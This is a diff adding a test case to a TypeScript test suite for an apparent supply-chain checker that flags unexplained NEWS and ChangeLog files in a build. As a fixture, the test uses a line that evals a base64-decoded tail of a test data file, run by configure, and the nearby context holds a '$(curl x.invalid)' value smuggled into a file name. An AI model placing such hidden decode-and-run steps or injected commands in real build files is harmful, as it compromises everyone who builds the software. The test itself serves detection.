@@ -419,6 +419,24 @@ describe('a ChangeLog and a NEWS a dist-hook writes with --name-status, a one-li
       expect(j?.findings?.[0]?.evidence).toContain(forged)
     }
   })
+  it('weighs its own doubt about a NEWS the build runs as a document run, its evidence kept', async () => {
+    const ran = `${news}eval "$(tail -c 200 tests/data.bin | base64 -d)"\n`
+    const judged = (text: string, build: Map<string, string>) => judge(added('NEWS', text), view({ NEWS: text }, { 'Makefile.am': am }), [changelogExplainer(async () => history)], build)
+    const runs = new Map([['configure', '#!/bin/sh\n$SHELL "$srcdir/NEWS" || :\n']])
+    const run = await judged(ran, runs)
+    expect(run?.outcome).toBe('unexplained')
+    expect(run?.findings?.map((f) => [f.ruleId, f.severity])).toEqual([
+      ['verify/unexplained-file', 'critical'],
+      ['verify/changelog-not-from-history', 'medium'],
+    ])
+    expect(run?.findings?.[0]?.evidence).toContain('configure:2')
+    expect(run?.findings?.[1]?.evidence).toContain('base64 -d')
+    expect(run?.scan).toBe(true)
+    // the same doubt about a NEWS nothing runs keeps the explainer's weight
+    expect((await judged(ran, new Map([['configure', '#!/bin/sh\ncat "$srcdir/NEWS"\n']])))?.findings?.map((f) => f.severity)).toEqual(['medium'])
+    // and a NEWS the history writes whole is explained, run or not
+    expect((await judged(news, runs))?.outcome).toBe('explained')
+  })
   it('still reports a rename line with shell in it, and an echoed heading with more than a word for its variable', async () => {
     const j = await judgeChangelog(history, changelog.replace('M\tsrc/main.c', 'R100\tsrc/a.c\t$(curl x.invalid)'), { 'Makefile.am': am })
     expect(j?.outcome).toBe('unexplained')
